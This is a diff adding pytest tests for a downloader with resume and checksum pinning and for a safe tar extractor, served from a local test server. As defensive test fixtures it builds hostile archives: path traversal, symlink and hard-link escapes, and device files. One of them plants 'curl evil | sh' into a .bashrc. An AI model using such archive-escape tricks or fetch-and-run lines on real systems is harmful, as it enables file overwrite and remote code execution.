@@ -1,0 +1,506 @@
+"""Offline tests for advtransfer.data.download: resumable pinned downloads and safe tar extraction.
+
+All network traffic goes to a LocalFileServer on 127.0.0.1.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import os
+import sys
+import tarfile
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+
+sys.path.insert(0, str(Path(__file__).parent))  # tests/ holds the shared httpserver helper
+
+from advtransfer.data import download as download_module
+from advtransfer.data.download import download, safe_extract_tar, sha256_file
+from advtransfer.errors import DataError
+from httpserver import LocalFileServer
+
+# ~1 MiB, deliberately not a multiple of the read chunk, with varied bytes so misplaced ranges change the hash.
+PAYLOAD = bytes(range(256)) * 4096 + b"tail"
+PAYLOAD_SHA = hashlib.sha256(PAYLOAD).hexdigest()
+CHUNK = 64 * 1024
+CUT = 300_000
+
+
+@pytest.fixture
+def server() -> Iterator[LocalFileServer]:
+    with LocalFileServer() as srv:
+        yield srv
+
+
+def fetch(url: str, dest: Path, sha: str = PAYLOAD_SHA, **kwargs: object) -> Path:
+    """download() with test defaults: no progress bar, small chunks, short timeout."""
+    kwargs = {"progress": False, "chunk": CHUNK, "timeout": 5.0, **kwargs}
+    return download(url, dest, sha, **kwargs)  # type: ignore[arg-type]
+
+
+def part_of(dest: Path) -> Path:
+    return dest.with_name(dest.name + ".part")
+
+
+# ------------------------------------------------------------------------------------------------------ download
+
+
+def test_sha256_file_matches_hashlib(tmp_path: Path) -> None:
+    path = tmp_path / "f"
+    path.write_bytes(PAYLOAD)
+    assert sha256_file(path, chunk=1000) == PAYLOAD_SHA
+
+
+def test_download_verifies_and_moves_into_place(server: LocalFileServer, tmp_path: Path) -> None:
+    url = server.add("f.bin", PAYLOAD)
+    dest = tmp_path / "new" / "dir" / "f.bin"  # parent directories are created
+
+    assert fetch(url, dest, PAYLOAD_SHA.upper(), size=len(PAYLOAD)) == dest  # pinned sha is case-insensitive
+
+    assert dest.read_bytes() == PAYLOAD
+    assert not part_of(dest).exists()
+    assert server.requests == [("/f.bin", None)]
+
+
+def test_interrupted_download_resumes_with_range(server: LocalFileServer, tmp_path: Path) -> None:
+    url = server.add("f.bin", PAYLOAD)
+    dest = tmp_path / "f.bin"
+    server.cut_connection(after=CUT, times=1)
+
+    with pytest.raises(DataError) as info:
+        fetch(url, dest)
+    message = str(info.value)
+    assert f"interrupted at {CUT} of {len(PAYLOAD)} bytes" in message
+    assert "re-run the same command to resume" in message
+    assert str(part_of(dest)) in message
+    assert part_of(dest).read_bytes() == PAYLOAD[:CUT]
+    assert not dest.exists()
+
+    fetch(url, dest)
+
+    assert dest.read_bytes() == PAYLOAD
+    assert not part_of(dest).exists()
+    assert server.requests == [("/f.bin", None), ("/f.bin", f"bytes={CUT}-")]
+    assert server.body_bytes_sent == [CUT, len(PAYLOAD) - CUT]  # the resume fetched only the remainder
+
+
+def test_resume_survives_repeated_interruptions(server: LocalFileServer, tmp_path: Path) -> None:
+    url = server.add("f.bin", PAYLOAD)
+    dest = tmp_path / "f.bin"
+    server.cut_connection(after=CUT, times=2)
+
+    for expected_have in (CUT, 2 * CUT):
+        with pytest.raises(DataError, match=f"interrupted at {expected_have} of"):
+            fetch(url, dest)
+    fetch(url, dest)
+
+    assert dest.read_bytes() == PAYLOAD
+    assert [r for _, r in server.requests] == [None, f"bytes={CUT}-", f"bytes={2 * CUT}-"]
+    assert sum(server.body_bytes_sent) == len(PAYLOAD)
+
+
+def test_server_without_range_support_restarts_from_zero(tmp_path: Path) -> None:
+    with LocalFileServer(range_support=False) as srv:
+        url = srv.add("f.bin", PAYLOAD)
+        dest = tmp_path / "f.bin"
+        # Garbage that would corrupt the result if the full 200 body were appended to it.
+        part_of(dest).write_bytes(b"x" * 5000)
+
+        fetch(url, dest)
+
+        assert dest.read_bytes() == PAYLOAD
+        assert srv.requests == [("/f.bin", "bytes=5000-")]
+        assert srv.body_bytes_sent == [len(PAYLOAD)]
+
+
+def test_checksum_mismatch_removes_part_and_creates_nothing(server: LocalFileServer, tmp_path: Path) -> None:
+    url = server.add("f.bin", PAYLOAD)
+    dest = tmp_path / "f.bin"
+    wrong = hashlib.sha256(b"something else").hexdigest()
+
+    with pytest.raises(DataError) as info:
+        fetch(url, dest, wrong)
+
+    message = str(info.value)
+    for fragment in (url, f"expected sha256 {wrong}", f"got {PAYLOAD_SHA}", "removed", "re-run the same command"):
+        assert fragment in message
+    assert not part_of(dest).exists()
+    assert not dest.exists()
+
+
+def test_verified_file_returns_without_any_request(server: LocalFileServer, tmp_path: Path) -> None:
+    url = server.add("f.bin", PAYLOAD)
+    dest = tmp_path / "f.bin"
+    dest.write_bytes(PAYLOAD)
+
+    assert fetch(url, dest) == dest
+    assert server.requests == []
+
+
+def test_stale_destination_is_replaced(server: LocalFileServer, tmp_path: Path) -> None:
+    url = server.add("f.bin", PAYLOAD)
+    dest = tmp_path / "f.bin"
+    dest.write_bytes(b"an older version")
+
+    fetch(url, dest)
+
+    assert dest.read_bytes() == PAYLOAD
+
+
+def test_complete_part_file_is_verified_after_416(server: LocalFileServer, tmp_path: Path) -> None:
+    url = server.add("f.bin", PAYLOAD)
+    dest = tmp_path / "f.bin"
+    part_of(dest).write_bytes(PAYLOAD)  # e.g. killed between the last byte and the rename
+
+    fetch(url, dest)  # size unknown, so it has to ask
+
+    assert dest.read_bytes() == PAYLOAD
+    assert server.requests == [("/f.bin", f"bytes={len(PAYLOAD)}-")]
+    assert server.body_bytes_sent == [0]
+
+
+def test_complete_part_file_with_pinned_size_needs_no_request(server: LocalFileServer, tmp_path: Path) -> None:
+    url = server.add("f.bin", PAYLOAD)
+    dest = tmp_path / "f.bin"
+    part_of(dest).write_bytes(PAYLOAD)
+
+    fetch(url, dest, size=len(PAYLOAD))
+
+    assert dest.read_bytes() == PAYLOAD
+    assert server.requests == []
+
+
+def test_size_announced_by_server_differs_from_pin(server: LocalFileServer, tmp_path: Path) -> None:
+    url = server.add("f.bin", PAYLOAD)
+    dest = tmp_path / "f.bin"
+
+    with pytest.raises(DataError, match=f"is {len(PAYLOAD)} bytes, but the pinned size is {len(PAYLOAD) + 1}"):
+        fetch(url, dest, size=len(PAYLOAD) + 1)
+
+    assert not dest.exists()
+    assert not part_of(dest).exists()
+
+
+def test_finished_size_differs_from_pin(tmp_path: Path) -> None:
+    # No Content-Length, so the size mismatch is only known once the body has ended.
+    with LocalFileServer(content_length=False) as srv:
+        url = srv.add("f.bin", PAYLOAD[:-10])
+        dest = tmp_path / "f.bin"
+
+        with pytest.raises(DataError) as info:
+            fetch(url, dest, size=len(PAYLOAD))
+
+    message = str(info.value)
+    assert f"expected {len(PAYLOAD)} bytes, got {len(PAYLOAD) - 10} bytes" in message
+    assert "removed" in message
+    assert not dest.exists()
+    assert not part_of(dest).exists()
+
+
+@pytest.mark.parametrize("url", ["file:///etc/passwd", "ftp://example.org/f.bin", "f.bin", "javascript:x"])
+def test_non_http_url_is_refused(url: str, tmp_path: Path) -> None:
+    dest = tmp_path / "f.bin"
+    with pytest.raises(DataError, match=r"only http:// and https:// URLs are supported") as info:
+        fetch(url, dest)
+    assert str(dest) in str(info.value)
+    assert not dest.exists() and not part_of(dest).exists()
+
+
+def test_http_error_is_a_data_error(server: LocalFileServer, tmp_path: Path) -> None:
+    with pytest.raises(DataError, match=r"HTTP 404"):
+        fetch(server.url("missing.bin"), tmp_path / "f.bin")
+
+
+def test_unreachable_server_is_a_data_error(tmp_path: Path) -> None:
+    with LocalFileServer() as srv:
+        url = srv.add("f.bin", PAYLOAD)
+    # Stopped: the port is closed now, so the connection is refused.
+    with pytest.raises(DataError, match=r"Could not download .*re-run the same command"):
+        fetch(url, tmp_path / "f.bin")
+
+
+def test_malformed_pinned_sha_is_a_bug_not_a_user_error(server: LocalFileServer, tmp_path: Path) -> None:
+    with pytest.raises(ValueError, match="sha256"):
+        fetch(server.add("f.bin", PAYLOAD), tmp_path / "f.bin", "abc")
+
+
+def test_progress_bar_goes_to_stderr_only_when_enabled(
+    server: LocalFileServer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    url = server.add("f.bin", PAYLOAD)
+    fetch(url, tmp_path / "quiet.bin", progress=False)
+    assert capsys.readouterr().err == ""
+
+    fetch(url, tmp_path / "loud.bin", progress=True)
+    captured = capsys.readouterr()
+    assert "loud.bin" in captured.err and captured.out == ""
+
+
+# ---------------------------------------------------------------------------------------------- tar helpers
+
+
+def tar_bytes(*entries: tuple[tarfile.TarInfo, bytes | None], mode: str = "w") -> bytes:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode=mode) as tar:
+        for info, data in entries:
+            tar.addfile(info, io.BytesIO(data) if data is not None else None)
+    return buf.getvalue()
+
+
+def file_(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
+    info = tarfile.TarInfo(name)
+    info.size = len(data)
+    info.mode = 0o644
+    return info, data
+
+
+def entry(name: str, kind: bytes, linkname: str = "") -> tuple[tarfile.TarInfo, None]:
+    info = tarfile.TarInfo(name)
+    info.type = kind
+    info.linkname = linkname
+    info.mode = 0o755 if kind == tarfile.DIRTYPE else 0o644
+    return info, None
+
+
+def dir_(name: str) -> tuple[tarfile.TarInfo, None]:
+    return entry(name, tarfile.DIRTYPE)
+
+
+def symlink(name: str, to: str) -> tuple[tarfile.TarInfo, None]:
+    return entry(name, tarfile.SYMTYPE, to)
+
+
+def hardlink(name: str, to: str) -> tuple[tarfile.TarInfo, None]:
+    return entry(name, tarfile.LNKTYPE, to)
+
+
+def snapshot(root: Path) -> set[str]:
+    """Every path under root (links not followed), to prove that a refused extraction wrote nothing."""
+    return {str(p.relative_to(root)) for p in root.rglob("*")}
+
+
+GOOD_TREE = (
+    dir_("pkg"),
+    file_("pkg/a.txt", b"alpha"),
+    dir_("pkg/sub"),
+    file_("pkg/sub/b.bin", bytes(range(256))),
+    symlink("pkg/sub/link", "../a.txt"),
+    hardlink("pkg/hard", "pkg/a.txt"),
+    file_("top.txt", b"top"),
+)
+
+
+def assert_good_tree(target: Path) -> None:
+    assert (target / "pkg" / "a.txt").read_bytes() == b"alpha"
+    assert (target / "pkg" / "sub" / "b.bin").read_bytes() == bytes(range(256))
+    link = target / "pkg" / "sub" / "link"
+    assert link.is_symlink() and os.readlink(link) == "../a.txt" and link.read_bytes() == b"alpha"
+    assert (target / "pkg" / "hard").read_bytes() == b"alpha"
+    assert (target / "top.txt").read_bytes() == b"top"
+
+
+# --------------------------------------------------------------------------------------------- safe_extract_tar
+
+
+@pytest.mark.parametrize("mode", ["w", "w:gz", "w:bz2", "w:xz"])
+def test_extracts_files_dirs_and_safe_links(tmp_path: Path, mode: str) -> None:
+    archive = tmp_path / "good.tar"
+    archive.write_bytes(tar_bytes(*GOOD_TREE, mode=mode))
+    target = tmp_path / "data" / "out"
+
+    assert safe_extract_tar(archive, target) == target
+
+    assert_good_tree(target)
+    assert snapshot(tmp_path / "data") == {"out"} | {f"out/{p}" for p in snapshot(target)}  # no staging left
+    assert oct(target.stat().st_mode & 0o777) != oct(0o700)  # the staging dir's mode is not mkdtemp's 0700
+
+
+def test_dot_slash_names_are_fine(tmp_path: Path) -> None:
+    archive = tmp_path / "a.tar"
+    archive.write_bytes(tar_bytes(dir_("."), dir_("./d"), file_("./d/f", b"x"), symlink("./l", "d/f")))
+    target = tmp_path / "out"
+
+    safe_extract_tar(archive, target)
+
+    assert (target / "d" / "f").read_bytes() == b"x"
+    assert (target / "l").read_bytes() == b"x"
+
+
+def test_existing_target_receives_entries(tmp_path: Path) -> None:
+    archive = tmp_path / "good.tar"
+    archive.write_bytes(tar_bytes(*GOOD_TREE))
+    target = tmp_path / "out"
+    target.mkdir()
+    (target / "keep.txt").write_text("mine")
+
+    safe_extract_tar(archive, target)
+
+    assert_good_tree(target)
+    assert (target / "keep.txt").read_text() == "mine"
+    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
+
+
+def test_existing_entry_in_target_is_not_overwritten(tmp_path: Path) -> None:
+    archive = tmp_path / "good.tar"
+    archive.write_bytes(tar_bytes(*GOOD_TREE))
+    target = tmp_path / "out"
+    target.mkdir()
+    (target / "top.txt").write_text("mine")
+    before = snapshot(tmp_path)
+
+    with pytest.raises(DataError, match=r"top\.txt already exists.*Nothing was extracted"):
+        safe_extract_tar(archive, target)
+
+    assert snapshot(tmp_path) == before  # not even "pkg" was moved in; staging removed
+    assert (target / "top.txt").read_text() == "mine"
+
+
+# Each case: archive entries (with {outside} = an absolute directory outside the target), and a message fragment.
+MaliciousCase = Callable[[str], tuple[tuple[tarfile.TarInfo, bytes | None], ...]]
+MALICIOUS: dict[str, tuple[MaliciousCase, str]] = {
+    "dotdot": (lambda out: (file_("ok.txt", b"ok"), file_("../evil", b"pwned")), "contains '..'"),
+    "dotdot-nested": (lambda out: (dir_("a"), file_("a/../../evil", b"pwned")), "contains '..'"),
+    "absolute": (lambda out: (file_(f"{out}/evil", b"pwned"),), "absolute path"),
+    "symlink-outside": (lambda out: (symlink("link", "../evil"),), "points outside the target"),
+    "symlink-absolute": (lambda out: (symlink("link", f"{out}/evil"),), "absolute path"),
+    "write-through-symlink": (
+        lambda out: (symlink("esc", ".."), file_("esc/evil", b"pwned")),
+        "points outside the target",
+    ),
+    # Each link is inside on its own; lexically "x/y/up/.." is "x/y", but on disk up -> target, so .. escapes.
+    "symlink-chain": (
+        lambda out: (
+            dir_("x"),
+            dir_("x/y"),
+            symlink("x/y/up", "../.."),
+            symlink("t", "x/y/up/.."),
+            file_("t/evil", b"p"),
+        ),
+        "points outside the target",
+    ),
+    "under-inner-symlink": (
+        lambda out: (dir_("sub"), symlink("d", "sub"), symlink("d/s", ".."), file_("ok", b"ok")),
+        "under the symlink 'd'",
+    ),
+    "symlink-loop": (lambda out: (symlink("a", "b"), symlink("b", "a")), "symlink loop"),
+    "hardlink-outside": (lambda out: (hardlink("hl", "../secret"),), "hard link to '../secret'"),
+    "hardlink-absolute": (lambda out: (hardlink("hl", f"{out}/secret"),), "absolute path"),
+    "chardev": (lambda out: (entry("dev", tarfile.CHRTYPE),), "device file, FIFO"),
+    "fifo": (lambda out: (entry("pipe", tarfile.FIFOTYPE),), "device file, FIFO"),
+    "file-as-target-itself": (lambda out: (file_(".", b"x"),), "replace the target directory"),
+}
+
+
+@pytest.mark.parametrize("target_exists", [False, True], ids=["new-target", "empty-target"])
+@pytest.mark.parametrize("case", sorted(MALICIOUS))
+def test_unsafe_archive_is_rejected_and_nothing_is_written(tmp_path: Path, case: str, target_exists: bool) -> None:
+    make_entries, fragment = MALICIOUS[case]
+    work = tmp_path / "work"  # the target's parent: "../x" from the target lands here
+    work.mkdir()
+    (work / "secret").write_text("do not touch")
+    target = work / "out"
+    if target_exists:
+        target.mkdir()
+    archive = tmp_path / "evil.tar"
+    archive.write_bytes(tar_bytes(*make_entries(str(work))))
+    before = snapshot(tmp_path)
+
+    with pytest.raises(DataError) as info:
+        safe_extract_tar(archive, target)
+
+    message = str(info.value)
+    assert fragment in message
+    assert str(archive) in message and "nothing was extracted" in message
+    assert snapshot(tmp_path) == before  # no evil file, no partial target, no staging dir left behind
+    assert (work / "secret").read_text() == "do not touch" and (work / "secret").stat().st_nlink == 1
+
+
+@pytest.mark.skipif(not hasattr(tarfile, "data_filter"), reason="tarfile without extraction filters")
+def test_data_filter_is_a_second_line_of_defence(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(download_module, "_validate_members", lambda *args: None)  # pretend validation missed it
+    archive = tmp_path / "evil.tar"
+    archive.write_bytes(tar_bytes(file_("ok.txt", b"ok"), symlink("link", "../evil")))
+    target = tmp_path / "work" / "out"
+    target.parent.mkdir()
+    before = snapshot(tmp_path)
+
+    with pytest.raises(DataError, match=r"refused by tarfile's data filter"):
+        safe_extract_tar(archive, target)
+
+    assert snapshot(tmp_path) == before  # ok.txt was already extracted to staging, which was removed
+
+
+def corrupt_archives() -> dict[str, bytes]:
+    good_gz = tar_bytes(*GOOD_TREE, mode="w:gz")
+    big_plain = tar_bytes(file_("small", b"s"), file_("big", os.urandom(50_000)))
+    return {
+        "truncated-gz": good_gz[: len(good_gz) // 2],
+        "garbage-gz": good_gz[:10] + b"\x00" * 200,
+        "not-a-tar": b"<html>404 Not Found</html>" * 40,
+        "empty": b"",
+        # Every header is intact; only the last member's data is cut short.
+        "truncated-data": big_plain[: 512 * 4 + 20_000],
+    }
+
+
+@pytest.mark.parametrize("case", sorted(corrupt_archives()))
+def test_corrupt_archive_is_a_data_error(tmp_path: Path, case: str) -> None:
+    archive = tmp_path / "bad.tar.gz"
+    archive.write_bytes(corrupt_archives()[case])
+    target = tmp_path / "out"
+    before = snapshot(tmp_path)
+
+    with pytest.raises(DataError) as info:
+        safe_extract_tar(archive, target)
+
+    message = str(info.value)
+    assert "corrupt, truncated or not a tar archive" in message
+    assert f"Delete {archive}" in message and "download it again" in message
+    assert snapshot(tmp_path) == before
+
+
+def test_missing_archive_is_a_data_error(tmp_path: Path) -> None:
+    with pytest.raises(DataError, match="does not exist"):
+        safe_extract_tar(tmp_path / "nope.tar", tmp_path / "out")
+
+
+# ------------------------------------------------------------------------------------------------- end to end
+
+
+def test_end_to_end_download_then_extract(server: LocalFileServer, tmp_path: Path) -> None:
+    blob = tar_bytes(*GOOD_TREE, mode="w:gz")
+    url = server.add("dataset.tar.gz", blob)
+    server.cut_connection(after=len(blob) // 3)  # and a flaky link for good measure
+    dest = tmp_path / "downloads" / "dataset.tar.gz"
+    sha = hashlib.sha256(blob).hexdigest()
+
+    with pytest.raises(DataError, match="re-run the same command"):
+        fetch(url, dest, sha, size=len(blob))
+    archive = fetch(url, dest, sha, size=len(blob))
+    target = safe_extract_tar(archive, tmp_path / "data" / "dataset")
+
+    assert_good_tree(target)
+    assert server.requests[-1] == ("/dataset.tar.gz", f"bytes={len(blob) // 3}-")
+
+
+def test_end_to_end_malicious_archive_writes_nothing_outside(server: LocalFileServer, tmp_path: Path) -> None:
+    work = tmp_path / "work"
+    blob = tar_bytes(
+        file_("readme.txt", b"innocent"),
+        symlink("cfg", "../../.."),  # then write through it
+        file_("cfg/.bashrc", b"curl evil | sh"),
+        file_("../../escaped.txt", b"pwned"),
+        mode="w:gz",
+    )
+    url = server.add("evil.tar.gz", blob)
+    archive = fetch(url, tmp_path / "downloads" / "evil.tar.gz", hashlib.sha256(blob).hexdigest())
+    before = snapshot(tmp_path)
+
+    with pytest.raises(DataError, match=r"Refusing to extract .*evil\.tar\.gz.*nothing was extracted"):
+        safe_extract_tar(archive, work / "data" / "evil")
+
+    assert snapshot(tmp_path) == before
+    assert not (tmp_path / "escaped.txt").exists() and not (tmp_path.parent / "escaped.txt").exists()
